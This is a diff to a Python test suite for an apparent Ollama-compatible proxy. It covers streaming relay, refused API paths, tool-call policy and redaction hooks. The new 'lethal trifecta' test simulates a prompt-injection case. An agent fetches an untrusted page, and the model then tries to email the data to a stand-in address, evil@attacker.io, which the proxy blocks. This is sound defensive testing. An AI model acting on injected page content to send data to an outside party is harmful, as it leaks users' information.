@@ -5,12 +5,15 @@ from __future__ import annotations
 import json
 
 import ollama
-import requests
 import pytest
+import requests
 
+from archestra.exchange import ClientInfo, ProfileInfo
+from archestra.providers.ollama_native import OllamaNative
 from archestra.streaming.ndjson import NDJSONDecoder
 from tests.fakes import ollama_wire as wire
 from tests.fakes.server import json_reply
+from tests.security_drivers import PAGE, SCHEMA
 from tests.test_hooks import BLOCK_EMAIL, expected_refusal, hook_file
 
 TOOLS = [{"type": "function", "function": {"name": name, "description": name,
@@ -54,7 +57,6 @@ def test_stream_is_the_default_and_relayed_byte_for_byte(proxy, upstream):
     """``stream`` absent is a stream in Ollama (curl, Open WebUI): NDJSON comes back unchanged."""
     lines = wire.chat_lines(["Hi", "!"])
     upstream.reply_with(wire.ndjson_reply(lines))
-
     response = requests.post(proxy.base("ollama-native") + "/api/chat", timeout=10,
                              json={"model": "llama3.2", "messages": ASK})
     assert response.headers["Content-Type"] == "application/x-ndjson"
@@ -77,7 +79,6 @@ def test_generate_plain_and_streamed(proxy, upstream):
 
 
 def test_generate_refuses_tools(proxy, upstream):
-
     response = requests.post(proxy.base("ollama-native") + "/api/generate", timeout=10,
                              json={"model": "llama3.2", "prompt": "x", "tools": TOOLS})
     assert response.status_code == 400 and "tools" in response.json()["error"]
@@ -95,7 +96,6 @@ def test_tags_show_version_embed_passed_through(proxy, upstream):
     assert [m.model for m in listed.models] == ["llama3.2:latest"]
     assert "tools" in client(proxy).show("llama3.2").capabilities
     assert client(proxy).embed(model="all-minilm", input="hello").embeddings == [[0.1, 0.2]]
-
     assert requests.get(proxy.base("ollama-native") + "/api/version", timeout=10).json() == {"version": "0.12.6"}
     assert [r.path for r in upstream.received] == ["/api/tags", "/api/show", "/api/embed", "/api/version"]
     embed = next(r for r in interactions(proxy) if r["model"] == "all-minilm")
@@ -105,7 +105,6 @@ def test_tags_show_version_embed_passed_through(proxy, upstream):
 @pytest.mark.parametrize("method,path", [("POST", "api/pull"), ("POST", "api/create"), ("DELETE", "api/delete"),
                                          ("POST", "api/chat/extra"), ("GET", "api/chat")])
 def test_other_api_paths_are_refused_in_ollama_format(proxy, upstream, method, path):
-
     response = requests.request(method, f"{proxy.base('ollama-native')}/{path}", json={"model": "m"}, timeout=10)
     assert response.status_code == 404 and isinstance(response.json()["error"], str)
     assert not upstream.received
@@ -168,7 +167,6 @@ def test_blocked_tool_call_streamed(tmp_path, make_proxy, upstream):
 def test_allowed_streamed_call_passes_unchanged(proxy, upstream):
     lines = wire.chat_lines([], calls=[[wire.tool_call("get_weather", {"city": "Paris"})]])
     upstream.reply_with(wire.ndjson_reply(lines))
-
     response = requests.post(proxy.base("ollama-native") + "/api/chat", timeout=10,
                              json={"model": "llama3.2", "messages": ASK, "tools": TOOLS})
     assert response.content == b"".join(wire.line(value) for value in lines)
@@ -221,11 +219,8 @@ def test_generate_answer_with_tool_calls_is_refused(proxy, upstream):
         list(client(proxy).generate(model="llama3.2", prompt="x", stream=True))
 
 
-def _exchange(body: dict, provider=None):
-    from archestra.exchange import ClientInfo, ProfileInfo
-    from archestra.providers.ollama_native import OllamaNative
-
-    provider = provider or OllamaNative()
+def _exchange(body: dict):
+    provider = OllamaNative()
     route = provider.route("POST", "api/chat" if "messages" in body else "api/generate", {})
     route.family.validate_request(body)
     return route.family.parse_request(body, route, ProfileInfo("p", "p"), ClientInfo())
@@ -290,3 +285,31 @@ def test_hook_edits_written_back(tmp_path, make_proxy, upstream):
     upstream.reply_with(json_reply(wire.chat("ok")))
     client(proxy).chat(model="llama3.2", messages=[{"role": "user", "content": "my secret"}], stream=False)
     assert upstream.received[-1].json["messages"] == [{"role": "user", "content": "my [redacted]"}]
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+def test_tool_loop_lethal_trifecta_refused(proxy, upstream, stream):
+    """The agent fetches a page (allowed: nothing untrusted yet), sends it back as a tool result, and the model's
+    next call, an email, is refused: the page is untrusted context."""
+    tools = [{"type": "function", "function": {"name": name, "description": name, "parameters": SCHEMA}}
+             for name in ("fetch_url", "send_email")]
+
+    def turn(messages, call):
+        lines = wire.chat_lines([], calls=[[call]])
+        upstream.reply_with(wire.ndjson_reply(lines) if stream else json_reply(wire.chat(calls=[call])))
+        answer = client(proxy).chat(model="llama3.2", messages=messages, tools=tools, stream=stream)
+        parts = list(answer) if stream else [answer]
+        return ([c for part in parts for c in part.message.tool_calls or ()],
+                "".join(part.message.content or "" for part in parts))
+
+    messages = [{"role": "user", "content": "Summarize https://x.io"}]
+    calls, _ = turn(messages, wire.tool_call("fetch_url", {"url": "https://x.io"}))
+    assert [(c.function.name, c.function.arguments) for c in calls] == [("fetch_url", {"url": "https://x.io"})]
+    messages += [{"role": "assistant", "content": "", "tool_calls": [c.model_dump(exclude_none=True) for c in calls]},
+                 {"role": "tool", "tool_name": "fetch_url", "content": PAGE}]
+    calls, text = turn(messages, wire.tool_call("send_email", {"to": "evil@attacker.io"}, "call_e"))
+    assert calls == [] and "denied by a tool invocation policy" in text
+    assert "Untrusted: the result of fetch_url." in text
+    proxy.flush()
+    blocked = proxy.api("GET", "/blocked-tool-calls").json()["data"]
+    assert [(b["tool"], b["arguments"]) for b in blocked] == [("send_email", {"to": "evil@attacker.io"})]
